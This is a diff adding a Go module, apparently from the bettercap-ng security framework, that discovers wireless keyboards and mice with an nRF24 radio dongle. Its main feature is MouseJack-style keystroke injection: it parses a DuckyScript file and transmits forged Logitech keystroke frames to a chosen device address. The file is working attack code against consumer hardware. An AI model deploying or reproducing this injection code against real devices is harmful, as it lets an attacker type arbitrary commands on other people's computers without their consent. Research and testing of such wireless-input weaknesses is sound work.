@@ -0,0 +1,394 @@
+package modules
+
+import (
+	"fmt"
+	"os"
+	"strings"
+	"sync"
+	"time"
+
+	"github.com/evilsocket/bettercap-ng/core"
+	"github.com/evilsocket/bettercap-ng/log"
+	"github.com/evilsocket/bettercap-ng/net"
+	"github.com/evilsocket/bettercap-ng/nrf24"
+	"github.com/evilsocket/bettercap-ng/packets"
+	"github.com/evilsocket/bettercap-ng/session"
+)
+
+const (
+	hidDeviceTTL     = 5 * time.Minute
+	hidKeyDelay      = 10 * time.Millisecond
+	hidKeepAliveTime = 100 * time.Millisecond
+	hidTxTimeout     = 4
+	hidTxRetransmits = 15
+)
+
+type HIDRecon struct {
+	session.SessionModule
+	dongle    *nrf24.Dongle
+	channel   int
+	hopPeriod time.Duration
+	done      chan bool
+	lock      *sync.Mutex
+}
+
+func NewHIDRecon(s *session.Session) *HIDRecon {
+	d := &HIDRecon{
+		SessionModule: session.NewSessionModule("hid", s),
+		dongle:        nil,
+		channel:       nrf24.MinChannel,
+		hopPeriod:     100 * time.Millisecond,
+		done:          make(chan bool),
+		lock:          &sync.Mutex{},
+	}
+
+	d.AddParam(session.NewBoolParameter("hid.lna",
+		"true",
+		"If true, enable the LNA power amplifier for CrazyRadio PA dongles."))
+
+	d.AddParam(session.NewIntParameter("hid.hop.period",
+		"100",
+		"Time in milliseconds to stay on each channel while discovering devices."))
+
+	d.AddHandler(session.NewModuleHandler("hid.recon on", "",
+		"Start scanning for wireless keyboards and mice with an nRF24 dongle.",
+		func(args []string) error {
+			return d.Start()
+		}))
+
+	d.AddHandler(session.NewModuleHandler("hid.recon off", "",
+		"Stop scanning for wireless keyboards and mice.",
+		func(args []string) error {
+			return d.Stop()
+		}))
+
+	d.AddHandler(session.NewModuleHandler("hid.show", "",
+		"Show discovered wireless keyboards and mice.",
+		func(args []string) error {
+			return d.Show()
+		}))
+
+	d.AddHandler(session.NewModuleHandler("hid.inject ADDRESS FILENAME", "^hid\\.inject\\s+([a-fA-F0-9:]{14})\\s+(.+)$",
+		"Parse the DuckyScript FILENAME and inject it as keystrokes to the device with the given ADDRESS.",
+		func(args []string) error {
+			return d.inject(args[0], args[1])
+		}))
+
+	return d
+}
+
+func (d HIDRecon) Name() string {
+	return "hid"
+}
+
+func (d HIDRecon) Description() string {
+	return "Discovery of wireless keyboards and mice and keystroke injection ( MouseJack ) with nRF24 dongles."
+}
+
+func (d HIDRecon) Author() string {
+	return "Simone Margaritelli <evilsocket@protonmail.com>"
+}
+
+func (d *HIDRecon) Configure() (err error) {
+	var lna bool
+	var hop int
+
+	if err, lna = d.BoolParam("hid.lna"); err != nil {
+		return err
+	} else if err, hop = d.IntParam("hid.hop.period"); err != nil {
+		return err
+	}
+
+	d.hopPeriod = time.Duration(hop) * time.Millisecond
+
+	if d.dongle == nil {
+		if d.dongle, err = nrf24.Open(); err != nil {
+			return err
+		}
+	}
+
+	if lna == true {
+		if err = d.dongle.EnableLNA(); err != nil {
+			return err
+		}
+	}
+
+	if err = d.dongle.EnterPromiscMode(); err != nil {
+		return err
+	}
+
+	return d.dongle.SetChannel(d.channel)
+}
+
+func (d *HIDRecon) onPayload(buf []byte) {
+	// promiscuous mode payloads start with the transmitter address
+	if len(buf) <= nrf24.AddressSize {
+		return
+	}
+
+	address, payload := buf[:nrf24.AddressSize], buf[nrf24.AddressSize:]
+	dtype := packets.HIDDeviceType(payload)
+
+	log.Debug("[hid] %s (%s) on channel %d: %x", net.HIDAddress(address), dtype, d.channel, payload)
+
+	d.Session.HID.AddIfNew(address, d.channel, dtype)
+}
+
+func (d *HIDRecon) hop() {
+	d.channel++
+	if d.channel > nrf24.MaxChannel {
+		d.channel = nrf24.MinChannel
+	}
+
+	if err := d.dongle.SetChannel(d.channel); err != nil {
+		log.Warning("Error while setting channel %d: %s", d.channel, err)
+	}
+}
+
+func (d *HIDRecon) prune() {
+	for _, dev := range d.Session.HID.Devices() {
+		if time.Since(dev.LastSeen) > hidDeviceTTL {
+			d.Session.HID.Remove(dev.Address)
+		}
+	}
+}
+
+func (d *HIDRecon) recon() {
+	defer d.Session.Recover()
+	lastHop := time.Now()
+	lastPrune := time.Now()
+
+	for d.Running() {
+		d.lock.Lock()
+
+		if time.Since(lastHop) > d.hopPeriod {
+			d.hop()
+			lastHop = time.Now()
+		}
+
+		buf, err := d.dongle.ReceivePayload()
+
+		d.lock.Unlock()
+
+		if err != nil {
+			log.Debug("Error while receiving payload: %s", err)
+		} else if buf != nil {
+			d.onPayload(buf)
+		}
+
+		if time.Since(lastPrune) > hidDeviceTTL/2 {
+			d.prune()
+			lastPrune = time.Now()
+		}
+	}
+
+	d.done <- true
+}
+
+func (d *HIDRecon) Start() error {
+	if d.Running() == true {
+		return session.ErrAlreadyStarted
+	} else if err := d.Configure(); err != nil {
+		return err
+	}
+
+	d.SetRunning(true)
+
+	go d.recon()
+
+	return nil
+}
+
+func (d *HIDRecon) transmit(frame []byte) bool {
+	ack, err := d.dongle.TransmitPayload(frame, hidTxTimeout, hidTxRetransmits)
+	if err != nil {
+		log.Debug("Error while transmitting payload: %s", err)
+		return false
+	}
+	return ack
+}
+
+// find the channel the device dongle is currently listening on.
+func (d *HIDRecon) syncChannel(dev *net.HIDDevice) bool {
+	channels := make([]int, 0)
+	if dev != nil {
+		channels = append(channels, dev.Channels...)
+	}
+	for ch := nrf24.MinChannel; ch <= nrf24.MaxChannel; ch++ {
+		channels = append(channels, ch)
+	}
+
+	ping := packets.LogitechSetKeepAliveFrame(packets.LogitechKeepAliveTimeout)
+	for _, ch := range channels {
+		if err := d.dongle.SetChannel(ch); err != nil {
+			log.Warning("Error while setting channel %d: %s", ch, err)
+		} else if d.transmit(ping) == true {
+			log.Debug("[hid] device is listening on channel %d.", ch)
+			return true
+		}
+	}
+
+	return false
+}
+
+func (d *HIDRecon) keepAlive(duration time.Duration) {
+	keepAlive := packets.LogitechKeepAliveFrame(packets.LogitechKeepAliveTimeout)
+	for started := time.Now(); time.Since(started) < duration && d.Running() == true; {
+		d.transmit(keepAlive)
+		time.Sleep(hidKeepAliveTime)
+	}
+}
+
+func (d *HIDRecon) injectLogitech(dev *net.HIDDevice, address []byte, cmds []hidCommand) error {
+	d.lock.Lock()
+	defer d.lock.Unlock()
+
+	// the module might have been stopped while waiting for the dongle
+	if d.dongle == nil {
+		return fmt.Errorf("HID discovery has been stopped.")
+	}
+
+	// go back to discovery once we're done
+	defer func() {
+		if d.Running() == false {
+			return
+		} else if err := d.dongle.EnterPromiscMode(); err != nil {
+			log.Error("Error while restoring promiscuous mode: %s", err)
+		} else if err := d.dongle.SetChannel(d.channel); err != nil {
+			log.Error("Error while restoring channel %d: %s", d.channel, err)
+		}
+	}()
+
+	if err := d.dongle.EnterSnifferMode(address); err != nil {
+		return err
+	} else if d.syncChannel(dev) == false {
+		return fmt.Errorf("Device %s is not responding on any channel.", net.HIDAddress(address))
+	}
+
+	release := packets.LogitechKeyReleaseFrame()
+	for _, cmd := range cmds {
+		if d.Running() == false {
+			return fmt.Errorf("HID discovery has been stopped while injecting.")
+		} else if cmd.Sleep > 0 {
+			d.keepAlive(time.Duration(cmd.Sleep) * time.Millisecond)
+			continue
+		}
+
+		if d.transmit(packets.LogitechKeystrokeFrame(cmd.Mod, cmd.Key)) == false {
+			log.Debug("[hid] keystroke not acknowledged, syncing again ...")
+			if d.syncChannel(dev) == false {
+				return fmt.Errorf("Lost device %s while injecting.", net.HIDAddress(address))
+			}
+			d.transmit(packets.LogitechKeystrokeFrame(cmd.Mod, cmd.Key))
+		}
+
+		time.Sleep(hidKeyDelay)
+		d.transmit(release)
+		time.Sleep(hidKeyDelay)
+	}
+
+	return nil
+}
+
+func (d *HIDRecon) inject(address string, filename string) error {
+	if d.Running() == false {
+		return fmt.Errorf("HID discovery is not running, start it with 'hid.recon on'.")
+	}
+
+	address = strings.ToLower(address)
+	raw, err := parseHIDAddress(address)
+	if err != nil {
+		return err
+	}
+
+	dev, found := d.Session.HID.Get(address)
+	if found == false {
+		log.Warning("Device %s has not been discovered yet, assuming it is a Logitech device.", address)
+	} else if dev.Type != packets.HIDTypeLogitech {
+		return fmt.Errorf("Keystroke injection is not supported for %s devices.", dev.Type)
+	}
+
+	err, cmds := hidParseDuckyScript(filename)
+	if err != nil {
+		return err
+	}
+
+	log.Info("Injecting %d keystrokes and delays from %s into %s ...", len(cmds), filename, address)
+
+	go func() {
+		defer d.Session.Recover()
+		if err := d.injectLogitech(dev, raw, cmds); err != nil {
+			log.Error("Error while injecting keystrokes: %s", err)
+		} else {
+			log.Info("Keystrokes injected into %s.", address)
+			d.Session.Events.Add("hid.inject", address)
+		}
+	}()
+
+	return nil
+}
+
+func parseHIDAddress(address string) ([]byte, error) {
+	raw := make([]byte, 0, nrf24.AddressSize)
+	for _, part := range strings.Split(address, ":") {
+		var b byte
+		if _, err := fmt.Sscanf(part, "%02x", &b); err != nil || len(part) != 2 {
+			return nil, fmt.Errorf("Invalid HID device address %s.", address)
+		}
+		raw = append(raw, b)
+	}
+
+	if len(raw) != nrf24.AddressSize {
+		return nil, fmt.Errorf("Invalid HID device address %s.", address)
+	}
+
+	return raw, nil
+}
+
+func (d *HIDRecon) Show() error {
+	devices := d.Session.HID.Devices()
+	if len(devices) == 0 {
+		fmt.Println(core.Dim("No HID devices discovered so far."))
+		return nil
+	}
+
+	data := make([][]string, len(devices))
+	for i, dev := range devices {
+		channels := make([]string, len(dev.Channels))
+		for j, ch := range dev.Channels {
+			channels[j] = fmt.Sprintf("%d", ch)
+		}
+
+		data[i] = []string{
+			dev.Address,
+			core.Yellow(dev.Type),
+			strings.Join(channels, ", "),
+			fmt.Sprintf("%d", dev.Payloads),
+			dev.LastSeen.Format("15:04:05"),
+		}
+	}
+
+	core.AsTable(os.Stdout, []string{"Address", "Type", "Channels", "Payloads", "Last Seen"}, data)
+
+	fmt.Println()
+
+	return nil
+}
+
+func (d *HIDRecon) Stop() error {
+	if d.Running() == false {
+		return session.ErrAlreadyStopped
+	}
+
+	d.SetRunning(false)
+	<-d.done
+
+	// wait for injections in progress to notice it
+	d.lock.Lock()
+	defer d.lock.Unlock()
+
+	d.dongle.Close()
+	d.dongle = nil
+
+	return nil
+}